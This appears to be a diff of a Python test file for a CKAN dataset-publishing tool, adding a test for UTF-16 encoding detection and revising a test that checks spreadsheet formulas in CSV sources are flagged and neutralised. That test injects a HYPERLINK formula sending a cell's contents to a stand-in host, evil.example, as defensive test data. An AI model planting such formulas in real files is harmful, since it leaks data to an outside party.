@@ -271,7 +271,8 @@ def test_a_large_drop_is_refused_unless_the_manifest_allows_it(project: Path) ->
 def test_formulas_are_neutralised_by_default_and_refused_on_request(project: Path) -> None:
     source = strategi_source(project)
     text = source.read_bytes()
-    source.write_bytes(text.replace(b"ej bed\xc3\xb6md", b'=HYPERLINK("http://evil.example/?"&A1;"Klicka")', 1))
+    formula = b'"=HYPERLINK(""http://evil.example/?""&A1;""Klicka"")"'
+    source.write_bytes(text.replace(b"ej bed\xc3\xb6md,\n", b"ej bed\xc3\xb6md," + formula + b"\n", 1))
     code, out = run(project, "validate", "strategi-uppfoljning", may_write=READS)
     assert code == 0 and "warning" in out and "starts like a spreadsheet formula" in out
     code, out = cli(project, "publish", "strategi-uppfoljning", "--target", "local")
@@ -369,3 +370,11 @@ def test_an_html_page_is_not_a_ckan_api_answer() -> None:
     assert "the answer to package_show is not a CKAN API answer (HTTP 200, text/html)" in message
     assert "check that CKAN_URL" in message and "token-xyz" not in message
     assert not isinstance(caught.value, TransientPublishError)
+
+
+def test_utf16_declared_windows_1252_is_named_not_a_ragged_row(project: Path) -> None:
+    source = project / "datasets/skolor-wifi/source/wifi-inventering.csv"
+    source.write_bytes(source.read_bytes().decode("cp1252").encode("utf-16"))
+    code, out = run(project, "validate", "skolor-wifi", may_write=READS)
+    assert code == 2 and "looks like UTF-16" in out and "encoding: windows-1252" in out
+    assert "do not have" not in out and "Traceback" not in out
